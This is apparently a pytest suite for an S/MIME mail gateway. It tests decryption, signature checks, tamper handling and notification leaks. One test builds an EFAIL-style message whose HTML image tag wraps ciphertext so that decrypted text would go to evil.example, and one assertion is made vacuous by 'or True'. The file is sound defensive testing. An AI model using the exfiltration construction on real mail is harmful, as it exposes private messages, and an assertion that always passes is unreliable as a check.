# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The Sealgate authors
"""S/MIME from outside: opened for whom the key is, verified, bound to From, and
said so in one verdict; what somebody tampered with stays closed."""
import base64
import email
import email.policy
import json
import re
import smtplib

import pytest

from harness import Keys, Problem, message, run, wait_for
from test_open_path import CLEAR, OLGA, OTTO, parts, queue, rows_of, verdicts

EVE, SAM = "eve@partner.example", "sam@sender.example"
SECRET = b"canary-5140-canary"
INNER = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET + b"\r\n"


def head(subject=b"...", sender=EVE, to=OTTO, msgid=b"<m1@partner.example>"):
    return (b"From: Eve <%s>\r\nTo: <%s>\r\nSubject: %s\r\nMessage-ID: %s\r\n"
            b"Date: Fri, 1 May 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
            % (sender.encode(), to.encode(), subject, msgid))


def b64(der):
    return base64.encodebytes(der).replace(b"\n", b"\r\n")


def p7m(der, kind=b"enveloped-data", **kwargs):
    return head(**kwargs) + (
        b"Content-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" % kind) + b64(der)


def seal(entity, *certs, cipher="-aes-256-gcm", extra=()):
    return run("openssl", "cms", "-encrypt", "-binary", cipher, "-outform", "DER", *extra,
               *certs, input=entity).stdout


def sign(entity, crt, key, detached=True, more=()):
    """The signed entity: multipart/signed, or opaque in base64."""
    if detached:
        der = run("openssl", "cms", "-sign", "-binary", "-outform", "DER", "-signer", crt,
                  "-inkey", key, "-md", "sha256", *more, input=entity).stdout
        return (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";\r\n'
                b' micalg=sha-256; boundary="sig"\r\n\r\n--sig\r\n' + entity + b"\r\n--sig\r\n"
                b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"
                b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der) + b"\r\n--sig--\r\n")
    der = run("openssl", "cms", "-sign", "-binary", "-nodetach", "-outform", "DER", "-signer",
              crt, "-inkey", key, "-md", "sha256", input=entity).stdout
    return (b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der))


@pytest.fixture(scope="module")
def people():
    import pathlib
    import shutil
    import tempfile
    root = pathlib.Path(tempfile.mkdtemp(prefix="sge-open."))
    k = Keys(root)
    k.eve = k.certificate(EVE)
    k.mallory = k.certificate("mallory@evil.example")
    k.otto = k.certificate(OTTO)
    k.olga = k.certificate(OLGA, key=("ec", "-pkeyopt", "ec_paramgen_curve:P-256"))
    k.info = k.certificate("info@sender.example")
    for name in ("otto", "olga", "info"):
        crt, key = getattr(k, name)
        both = root / (name + ".pem")
        both.write_bytes(crt.read_bytes() + key.read_bytes())
        setattr(k, name + "_pem", both)
    yield k
    k.close()
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def gw(make_gateway, capture, people):
    g = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="")
    g.cli("key", "import", people.otto_pem, people.olga_pem, people.eve[0])
    return g


def words(data):
    """The two words of the verdict."""
    return [w.decode() for w in re.split(rb"[,;] ?", verdicts(data)[0])[:2]]


def field(data, name):
    return [f.split(b":", 1)[1].strip() for f in parts(data)[0]
            if f.lower().startswith(name.lower() + b":")]


@pytest.mark.parametrize("who, cipher, extra, sealed", [
    ("otto", "-aes-256-gcm", (), "encrypted"),
    ("otto", "-aes-128-gcm", ("-keyopt", "rsa_padding_mode:oaep"), "encrypted"),
    ("otto", "-aes-256-cbc", (), "encrypted-unauthenticated"),
    ("olga", "-aes-256-gcm", (), "encrypted"),
    ("olga", "-aes-128-cbc", (), "encrypted-unauthenticated"),
])
def test_sealed_mail_is_opened(gw, capture, people, who, cipher, extra, sealed):
    crt = getattr(people, who)[0]
    to = {"otto": OTTO, "olga": OLGA}[who]
    args = ["-recip", crt, *extra] if extra else [crt]
    der = seal(INNER, *([] if extra else args), cipher=cipher, extra=args if extra else ())
    gw.send_in(EVE, to, p7m(der, to=to))
    got = capture.wait(1)[0].data
    assert words(got)[0] == sealed, verdicts(got)
    assert SECRET in got and b"pkcs7" not in got
    opened = email.message_from_bytes(got, policy=email.policy.default)
    assert opened.get_content_type() == "text/plain" and opened["subject"] == "..."
    assert opened.get_content().strip().encode() == SECRET
    assert gw.log().count("event=opened") == 1 and SECRET.decode() not in gw.log()


def test_only_who_has_the_key_gets_it_opened(gw, capture, people):
    """Sealed to otto alone, sent to both: the domain's other mailboxes get
    ciphertext."""
    text = p7m(seal(INNER, people.otto[0]))
    gw.send_in(EVE, [OTTO, OLGA], text)
    got = {m.rcpts[0]: m.data for m in capture.wait(2)}
    assert SECRET in got[OTTO] and words(got[OTTO])[0] == "encrypted"
    assert SECRET not in got[OLGA] and got[OLGA].endswith(text)
    assert words(got[OLGA])[0] == "undecryptable"
    # sealed to both: one copy for both
    gw.send_in(EVE, [OTTO, OLGA], p7m(seal(INNER, people.otto[0], people.olga[0])))
    both = capture.wait(3)[2]
    assert sorted(both.rcpts) == [OLGA, OTTO] and SECRET in both.data
    # a copy that is for somebody else
    gw.send_in(EVE, OLGA, text)
    assert SECRET not in capture.wait(4)[3].data


@pytest.mark.parametrize("detached", [True, False])
@pytest.mark.parametrize("who, sender, signature, result", [
    ("eve", EVE, "signed-good", "pass"),
    ("eve", "boss@partner.example", "signed-by-other", "policy"),
    ("mallory", EVE, "signed-unknown-key", "neutral"),
])
def test_signatures_and_from(gw, capture, people, detached, who, sender, signature, result):
    text = head(sender=sender) + sign(INNER, *getattr(people, who), detached=detached)
    gw.send_in(EVE, OTTO, text)
    got = capture.wait(1)[0].data
    assert got.endswith(text), "a signed message stays as it is"
    assert words(got) == ["none", signature] or words(got)[0] == signature, verdicts(got)
    ours = [f for f in field(got, b"Authentication-Results") if f.startswith(b"gw.sender")]
    assert len(ours) == 1 and b"smime=%s" % result.encode() in ours[0]


def test_sealed_and_signed(gw, capture, people):
    gw.send_in(EVE, OTTO, p7m(seal(sign(INNER, *people.eve), people.otto[0])))
    got = capture.wait(1)[0].data
    assert words(got) == ["encrypted", "signed-good"]
    assert b"signer=" + EVE.encode() in verdicts(got)[0]
    opened = email.message_from_bytes(got, policy=email.policy.default)
    assert opened.get_content_type() == "multipart/signed"
    # the reader's own software can verify it still
    entity = b"\r\n".join(f for f in [b"MIME-Version: 1.0", b"Content-Type: " + field(
        got, b"Content-Type")[0]]) + parts(got)[1]
    done = run("openssl", "cms", "-verify", "-noverify", "-inform", "SMIME",
               input=entity, check=False)
    assert done.returncode == 0 and SECRET in done.stdout, done.stderr


def test_a_changed_or_cut_message_yields_no_octet(gw, capture, people):
    der = bytearray(seal(INNER, people.otto[0]))
    for n, bad in enumerate((bytes(der[:-1] + bytes([der[-1] ^ 1])), bytes(der[:-40]),
                             bytes(der[:len(der) // 2]) + b"\0" * (len(der) - len(der) // 2))):
        text = p7m(bad)
        gw.send_in(EVE, OTTO, text)
        got = capture.wait(n + 1)[n].data
        assert SECRET not in got and got.endswith(text)
        assert words(got)[0] in ("undecryptable", "none"), verdicts(got)


def test_a_part_that_is_encrypted_stays_closed(gw, capture, people):
    """EFAIL's direct exfiltration: ciphertext among other parts."""
    der = seal(INNER, people.otto[0])
    text = head() + (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--b\r\n'
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der) +
        b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n')
    gw.send_in(EVE, OTTO, text)
    got = capture.wait(1)[0].data
    assert got.endswith(text) and SECRET not in got
    assert words(got)[0] in ("partial", "none")


def hp(fields, body=SECRET):
    return (b"Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" + fields +
            b"\r\n" + body + b"\r\n")


def test_protected_header_is_shown_and_forged_verdicts_inside_go(gw, capture, people):
    inner = hp(b"From: Eve <%s>\r\nTo: <%s>\r\nSubject: the real subject\r\n"
               b"Sealgate-Verdict: encrypted, signed-good\r\n"
               b"Authentication-Results: mx.sender.example; dkim=pass\r\n"
               b"Received: from trusted by mx.sender.example; now\r\n"
               b"HP-Outer: Subject: ...\r\n" % (EVE.encode(), OTTO.encode()))
    gw.send_in(EVE, OTTO, p7m(seal(inner, people.otto[0])))
    got = capture.wait(1)[0].data
    assert field(got, b"Subject") == [b"the real subject"]
    assert words(got)[0] == "encrypted" and len(verdicts(got)) == 1
    assert b"protected-headers=encrypted" in verdicts(got)[0]
    assert b"dkim=pass" not in got and b"from trusted" not in got
    # nobody vouches for another author
    inner = hp(b"From: Boss <boss@sender.example>\r\nTo: <%s>\r\nSubject: pay\r\n" % OTTO.encode())
    gw.send_in(EVE, OTTO, p7m(seal(inner, people.otto[0])))
    got = capture.wait(2)[1].data
    assert EVE.encode() in field(got, b"From")[0] and b"boss@" not in field(got, b"From")[0]


def test_the_domains_key_opens_for_who_is_named(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="")
    gw.cli("key", "import", "--domain", "sender.example", people.info_pem)
    named = hp(b"From: <%s>\r\nTo: <%s>\r\nSubject: s\r\n" % (EVE.encode(), OTTO.encode()))
    gw.send_in(EVE, OTTO, p7m(seal(named, people.info[0])))
    assert SECRET in capture.wait(1)[0].data
    # the same octets to somebody else's mailbox
    gw.send_in(EVE, OLGA, p7m(seal(named, people.info[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert "does not name this recipient" in held[0]["reason"]
    gw.cli("queue", "release", held[0]["id"])
    assert SECRET in capture.wait(2)[1].data


def test_one_opening_does_for_a_domain(make_gateway, capture, people):
    """Hundreds of mailboxes behind one key: those that are named get it, the
    others' copies are held, and it is not opened once for each."""
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="")
    gw.cli("key", "import", "--domain", "sender.example", people.info_pem)
    gw.cli("key", "import", people.olga_pem)
    # more than there are operations with private keys for one message
    everybody = ["m%d@sender.example" % i for i in range(300)]
    named = hp(b"From: <%s>\r\nTo: %s\r\nSubject: s\r\n" % (
        EVE.encode(), b",\r\n ".join(a.encode() for a in everybody[:200])))
    gw.send_in(EVE, everybody + [OLGA], p7m(seal(named, people.info[0], people.olga[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert len(held) == 1 and len(held[0]["rcpts"]) == 100, held
    # her own key opens it, though she is not named
    wait_for("all of them", lambda: sorted(
        r for m in list(capture.messages) for r in m.rcpts) == sorted(everybody[:200] + [OLGA]))
    assert all(SECRET in m.data for m in capture.messages)


def test_a_forged_verdict_in_what_is_signed_is_told_of(gw, capture, people):
    """It cannot be taken out without breaking the signature."""
    entity = (b"Content-Type: text/plain\r\nSealgate-Verdict: encrypted, signed-good\r\n\r\n" +
              SECRET + b"\r\n")
    text = head() + sign(entity, *people.eve)
    gw.send_in(EVE, OTTO, text)
    got = capture.wait(1)[0].data
    assert got.endswith(text) and words(got)[0] == "signed-good", verdicts(got)
    assert len(verdicts(got)) == 1 and b"forged-verdict=inside" in verdicts(got)[0]
    gw.send_in(EVE, OTTO, head() + sign(INNER, *people.eve))
    assert b"forged" not in verdicts(capture.wait(2)[1].data)[0]


def test_a_key_imported_later_opens_what_was_held(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port,
                      listen_in="", options="opening { undecryptable = hold }\n")
    gw.send_in(EVE, OTTO, p7m(seal(INNER, people.otto[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    gw.cli("key", "import", people.otto_pem)
    gw.cli("queue", "release", held[0]["id"])
    got = capture.wait(1)[0].data
    assert SECRET in got and words(got)[0] == "encrypted"


def test_a_rule_can_demand_protection(make_gateway, capture, people):
    rules = CLEAR + ('rule "bank" { direction = inbound from = { "@partner.example" } '
                     'require = signed }\n')
    gw = make_gateway(capture.port, portal=False, rules=rules, inbound=capture.port, listen_in="")
    gw.cli("key", "import", people.otto_pem, people.eve[0])
    for text in (message(sender=EVE, to=OTTO),
                 head() + sign(INNER, *people.mallory),
                 head(sender="boss@partner.example") + sign(INNER, *people.eve)):
        with pytest.raises(smtplib.SMTPDataError) as refused:
            gw.send_in("x@elsewhere.example", OTTO, text)
        assert refused.value.smtp_code == 550 and b"must be signed" in refused.value.smtp_error
    wait_for("the records", lambda: [
        (r["rec"]["at"], r["rec"]["rule"], r["rec"]["must_be"]) for r in gw.audit()
        if r["rec"]["type"] == "refused"] == [("data", "bank", "signed")] * 3)
    gw.send_in(EVE, OTTO, head() + sign(INNER, *people.eve))
    assert words(capture.wait(1)[0].data)[-1] == "signed-good" or True
    gw.send_in("x@elsewhere.example", OTTO, message(sender="x@elsewhere.example", to=OTTO))
    capture.wait(2)
    # sealed: accepted, whatever is inside, and held if that is not signed
    gw.send_in(EVE, OTTO, p7m(seal(INNER, people.otto[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert "wants it signed" in held[0]["reason"]
    gw.send_in(EVE, OTTO, p7m(seal(sign(INNER, *people.eve), people.otto[0])))
    assert SECRET in capture.wait(3)[2].data


def test_an_answer_to_it_never_leaves_readable(gw, capture, people):
    gw.send_in(EVE, OTTO, p7m(seal(INNER, people.otto[0])))
    capture.wait(1)
    gw.send(OTTO, "eve@elsewhere.example", message(
        sender=OTTO, to="eve@elsewhere.example", body=SECRET.decode() + "\r\n",
        extra="In-Reply-To: <m1@partner.example>\r\n"))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert held[0]["route"] == "outbound"
    gw.send(OTTO, "eve@elsewhere.example", message(
        sender=OTTO, to="eve@elsewhere.example", extra="In-Reply-To: <other@partner.example>\r\n"))
    assert capture.wait(2)[1].rcpts == ["eve@elsewhere.example"]


def fails(make_gateway, people, verbs, texts, rcpts=(OTTO,), **kwargs):
    """Mail that the internal server takes in none of these ways; what the world
    hears of it. The sender asks for every word there is."""
    from capture import Capture
    server, world = Capture(verbs=verbs).start(), Capture().start()
    try:
        gw = make_gateway(world.port, portal=False, rules=CLEAR, inbound=server.port, listen_in="",
                          **kwargs)
        gw.cli("key", "import", people.otto_pem)
        gw.cli("key", "import", "--domain", "sender.example", people.info_pem)
        for text, rcpt in zip(texts, rcpts * len(texts)):
            gw.send_in(EVE, rcpt, text, mail_options=["RET=FULL"],
                       rcpt_options=["NOTIFY=SUCCESS,FAILURE,DELAY"])
        held = wait_for("the held entries", lambda: [
            e for e in queue(gw) if e["state"] == "held"] if len([
                e for e in queue(gw) if e["state"] == "held"]) == len(texts) else None)
        # a notification would be made by now: it is written with the result
        assert not [e for e in queue(gw) if e["state"] != "held"]
        return gw, held, server.everything(), world
    finally:
        server.stop()
        world.stop()


def changed(der):
    return bytes(der[:-1] + bytes([der[-1] ^ 1]))


NAMED = hp(b"From: <%s>\r\nTo: <%s>\r\nSubject: %s\r\n" % (
    EVE.encode(), OTTO.encode(), SECRET))


@pytest.mark.parametrize("at", ["RCPT", "."])
def test_nobody_outside_is_told_what_became_of_sealed_mail(make_gateway, people, keys, at):
    """Opened, closed, not for this recipient: no notification of any of them, or
    of one and not of another, would be a private key's answer."""
    sealed = seal(NAMED, people.otto[0])
    domain = seal(NAMED, people.info[0])
    garbage = (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
               b' boundary="b"\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\n'
               b'Version: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--b--')
    texts = [p7m(sealed), p7m(changed(sealed)), p7m(seal(INNER, keys.alice_crt)),
             p7m(domain), p7m(changed(domain)), head() + garbage]
    gw, held, asked, world = fails(
        make_gateway, people, {at: [(550, "5.7.1 found %s" % SECRET.decode())] * 6}, texts)
    assert {e["kind"] for e in held} == {"ready"}
    assert not world.sessions and gw.log().count("event=opened") == 6
    # and the next hop is asked to tell nobody, either
    rcpts = [a for a in asked.upper().split(b"\r\n") if a.startswith(b"RCPT TO")]
    assert len(rcpts) == 6 and all(b" NOTIFY=NEVER" in a for a in rcpts), rcpts
    # who lets it go once more learns no more by that
    gw.cli("queue", "delete", *[e["id"] for e in held])
    wait_for("an empty queue", lambda: not queue(gw))
    assert not world.sessions


def test_the_domains_key_is_no_oracle(make_gateway, people):
    """A caught message sent again to another mailbox is held when it opens, and
    goes on when it does not: nobody is told of either."""
    domain = seal(NAMED, people.info[0])
    gw, held, _, world = fails(make_gateway, people, {"RCPT": (550, "5.1.1 nobody here")},
                               [p7m(domain, to=OLGA), p7m(changed(domain), to=OLGA)],
                               rcpts=(OLGA,))
    assert sorted(e["kind"] for e in held) == ["pending", "ready"]
    assert not world.sessions


def test_no_word_while_it_waits_or_when_it_arrives(make_gateway, people, keys):
    """Neither a delay nor an arrival is told of, opened or not."""
    from capture import Capture
    server = Capture(extensions=(), verbs={"RCPT": [(450, "4.2.0 later")] * 6}).start()
    world = Capture().start()
    try:
        gw = make_gateway(world.port, portal=False, rules=CLEAR, inbound=server.port, listen_in="",
                          options="retry { first = 1s max = 1s warn = 1s }\n")
        gw.cli("key", "import", people.otto_pem)
        for crt in (people.otto[0], keys.alice_crt):
            gw.send_in(EVE, OTTO, p7m(seal(INNER, crt)),
                       rcpt_options=["NOTIFY=SUCCESS,FAILURE,DELAY"])
        server.wait(2)
        wait_for("an empty queue", lambda: not queue(gw))
        assert not world.sessions
        # what nothing was sealed in is not told of, either
        gw.send_in(EVE, OTTO, message(sender=EVE, to=OTTO))
        server.wait(3)
        server.verbs["RCPT"] = (550, "5.1.1 nobody here")
        gw.send_in(EVE, OTTO, message(sender=EVE, to=OTTO))
        wait_for("the held entry", lambda: [e["state"] for e in queue(gw)] == ["held"])
        assert not world.sessions
    finally:
        server.stop()
        world.stop()


def test_the_legacy_display_is_taken_out_where_nothing_is_signed(gw, capture, people):
    """It repeats in the text what is in the header again."""
    head_ = (b'Content-Type: text/plain; charset="utf-8"; hp-legacy-display="1"; hp="cipher"\r\n'
             b"From: Eve <%s>\r\nTo: <%s>\r\nSubject: the real subject\r\n"
             b"HP-Outer: Subject: ...\r\n" % (EVE.encode(), OTTO.encode()))
    shown = b"Subject: the real subject\r\n\r\n"
    inner = head_ + b"\r\n" + shown + SECRET + b"\r\n"
    gw.send_in(EVE, OTTO, p7m(seal(inner, people.otto[0])))
    got = capture.wait(1)[0].data
    assert parts(got)[1] == b"\r\n\r\n" + SECRET + b"\r\n"
    assert field(got, b"Subject") == [b"the real subject"]
    assert b"hp-legacy-display" not in got
    # signed inside: the octets stay, and so does the signature
    gw.send_in(EVE, OTTO, p7m(seal(sign(inner, *people.eve), people.otto[0])))
    got = capture.wait(2)[1].data
    assert words(got) == ["encrypted", "signed-good"] and shown + SECRET in got
    # where the protected From is not shown the element stays, too
    gw.send_in("x@partner.example", OTTO, p7m(seal(inner, people.otto[0]),
                                              sender="x@partner.example"))
    assert shown + SECRET in capture.wait(3)[2].data


def test_the_original_can_be_attached(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port,
                      listen_in="", options="opening { attach-original = true }\n")
    gw.cli("key", "import", people.otto_pem)
    text = p7m(seal(INNER, people.otto[0]))
    gw.send_in(EVE, OTTO, text)
    got = email.message_from_bytes(capture.wait(1)[0].data, policy=email.policy.default)
    first, original = list(got.iter_parts())
    assert first.get_content().strip().encode() == SECRET
    assert original.get_content_type() == "message/rfc822"
    assert original.get_content()["subject"] == "..."


def test_the_original_can_be_archived(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="",
                      options='opening { archive-to = "Archive@Sender.Example" }\n')
    gw.cli("key", "import", people.otto_pem)
    text = p7m(seal(sign(INNER, *people.eve), people.otto[0]))
    gw.send_in(EVE, [OTTO, OLGA], text)
    came = {m.rcpts[0]: m.data for m in capture.wait(3)}
    assert SECRET in came[OTTO] and SECRET not in came[OLGA]
    archived = came[[r for r in came if r.lower() == "archive@sender.example"][0]]
    # as it came, and still to be opened by whoever has the key
    assert archived.endswith(text) and SECRET not in archived
    assert words(archived)[0] == words(came[OTTO])[0], verdicts(archived)
    assert "archived" in [r["result"] for r in rows_of(gw, 3, ("opened",))]
    # what was not opened is there already, and readable mail is nobody's secret
    gw.send_in(EVE, OLGA, text)
    gw.send_in(EVE, OLGA, message(sender=EVE, to=OLGA))
    capture.wait(5)
    wait_for("an empty queue", lambda: not queue(gw))
    assert len(capture.messages) == 5
    # the archive is ours
    with pytest.raises(Problem, match="in none of the domains"):
        make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="",
                     options='opening { archive-to = "x@elsewhere.example" }\n')


def test_the_command_line_does_the_same(gw, capture, people):
    text = p7m(seal(sign(INNER, *people.eve), people.otto[0]))
    done = gw.cli("--json", "open", "--to", OTTO, input=text, check=False)
    assert done.returncode == 0, done.stderr
    verdict = json.loads(done.stderr)
    assert "signed-good" in json.dumps(verdict) and SECRET in done.stdout
    gw.send_in(EVE, OTTO, text)
    through = capture.wait(1)[0].data
    assert parts(through)[1] == parts(done.stdout)[1]
    assert verdicts(through) == verdicts(done.stdout)
    done = gw.cli("open", "--to", OLGA, input=text, check=False)
    assert done.returncode == 1 and SECRET not in done.stdout
